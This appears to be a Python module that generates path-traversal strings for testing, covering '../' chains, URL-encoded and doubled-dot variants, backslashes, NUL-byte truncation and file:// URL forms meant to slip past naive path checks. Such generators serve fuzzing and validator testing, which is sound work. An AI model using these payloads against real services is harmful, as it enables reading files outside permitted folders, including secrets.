"""Paths that lead out of a folder, in the forms in which they get past a look at the text.

Each is given as what it is called, and the text: from the folder in which `usual` lies to `target`, whose path is absolute.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from urllib.parse import quote

UP = 16  # folders: more than any root is deep


def plain(usual: str, target: str, up: int = UP) -> Iterator[tuple[str, str]]:
    """By `up` folders and more there is no way further up: the fewer are named, the shorter is what a limit of the length lets through."""
    chain = "../" * up
    inner = target.lstrip("/")
    yield "../", f"{chain}{inner}"
    yield "an absolute path", target
    first = usual.strip("/").partition("/")[0]
    if usual.startswith("/"):
        yield "../ behind the folder", f"{os.path.dirname(usual)}/{chain}{inner}"
    elif "/" in usual.strip("/") and first not in (".", ".."):
        yield f"{first}/../", f"{first}/{chain}{inner}"


def disguised(usual: str, target: str, up: int = UP) -> Iterator[tuple[str, str]]:
    path = f"{'../' * up}{target.lstrip('/')}"
    yield "....//", path.replace("../", "....//")
    yield "..%2f", quote(path, safe="")
    yield "%2e%2e%2f", quote(path, safe="").replace("..", "%2e%2e")
    yield "..\\", path.replace("/", "\\")
    yield "~", f"~/{path}"
    yield "NUL", f"{path}\0{os.path.splitext(usual)[1]}"


FILE_URL = "a file: URL"


def file_urls(target: str) -> Iterator[tuple[str, str]]:
    """For what is taken for an address: the plain one first, and those that get past a look at the beginning."""
    yield FILE_URL, f"file://{target}"
    yield f"{FILE_URL} in capitals", f"FILE://{target}"
    yield f"{FILE_URL} of localhost", f"file://localhost{target}"
    yield f"{FILE_URL} behind URL:", f"URL:file://{target}"
